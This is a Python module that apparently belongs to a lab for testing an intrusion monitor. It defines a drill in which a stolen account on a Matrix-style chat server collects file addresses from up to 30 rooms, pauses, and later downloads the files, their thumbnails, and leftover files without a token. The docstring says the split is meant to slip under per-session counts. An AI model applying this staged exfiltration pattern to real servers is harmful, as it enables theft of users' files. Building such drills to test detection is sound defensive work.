"""Files in two steps: their addresses are collected by reading, and fetched later, by every way there is.

Whoever counts what one session reads and downloads together sees two halves, each smaller than the whole.
"""

import asyncio
from collections.abc import Mapping
from typing import Any, Final

from vigie.lab.client import V3, part
from vigie.lab.drills import Context
from vigie.lab.hands import fetch_without_token, rob, steal
from vigie.lab.intruder import crew
from vigie.lab.loot import Taken
from vigie.model.language import Sentence

ROOMS: Final = 30
GLANCE: Final = 30
"""Rooms, and events of each, that are read for addresses: what a client shows of a room at once, a morning's worth."""
ONLY_FILES: Final = '{"contains_url":true}'
REST: Final = 5.0
"""Seconds between collecting and fetching."""


class Media:
    """See the module."""

    name: Final = "media"
    title: Final = Sentence(
        en="A stolen account collects the addresses of files first and fetches them later, with and without a token",
        fr="Un compte volé relève d'abord les adresses des fichiers, et les aspire plus tard, avec et sans jeton",
    )
    benign: Final = False
    profile: Final = "victim"
    stages: Final = ("collect", "legacy", "fetch", "thumbnails")
    seconds: Final = 180.0

    async def run(self, context: Context) -> Taken:
        """Play it: see `Drill.run`."""
        theft = _Theft(context)
        return await rob(context, theft.hands, theft.play(), theft.fetch_old if "legacy" in context.stages else None)


class _Theft:
    def __init__(self, context: Context) -> None:
        self._context = context
        self._files: dict[str, None] = {}
        self.hands = steal(context)

    async def play(self) -> None:
        await self.hands.intruder.enter()
        await crew(self._context.concurrency, (await self.hands.rooms())[:ROOMS], self._collect)
        self._context.loot.done["addresses"] = len(self._files)
        await asyncio.sleep(REST)
        if "fetch" in self._context.stages:
            await crew(self._context.concurrency, list(self._files), self.hands.fetch)
        if "thumbnails" in self._context.stages:
            left = [mxc for mxc in self._files if mxc not in self._context.loot.media]
            await crew(self._context.concurrency, left, self._look_at)

    async def _collect(self, row: Mapping[str, Any]) -> None:
        """The newest files of a room, entered unless anybody may read it."""
        room = str(row["room_id"])
        if row.get("world_readable") is True or await self.hands.enter(room):
            path = f"{V3}/rooms/{part(room)}/messages"
            answer = await self.hands.get("history", path, dir="b", limit=str(GLANCE), filter=ONLY_FILES)
            files = self._context.loot.take_events(room, answer.rows("chunk")) if answer else []
            self._files |= dict.fromkeys(files)

    async def _look_at(self, mxc: str) -> None:
        """A picture of a document is nearly the document. It is no whole file, so it is not counted as one."""
        answer = await self.hands.intruder.ask("thumbnails", lambda client: client.thumbnail(mxc))
        self._context.loot.done["thumbnails"] += answer is not None

    async def fetch_old(self) -> None:
        """The addresses outlive the account: whatever is missing is tried without it."""
        await fetch_without_token(self._context, [mxc for mxc in self._files if mxc not in self._context.loot.media])


DRILL: Final = Media()
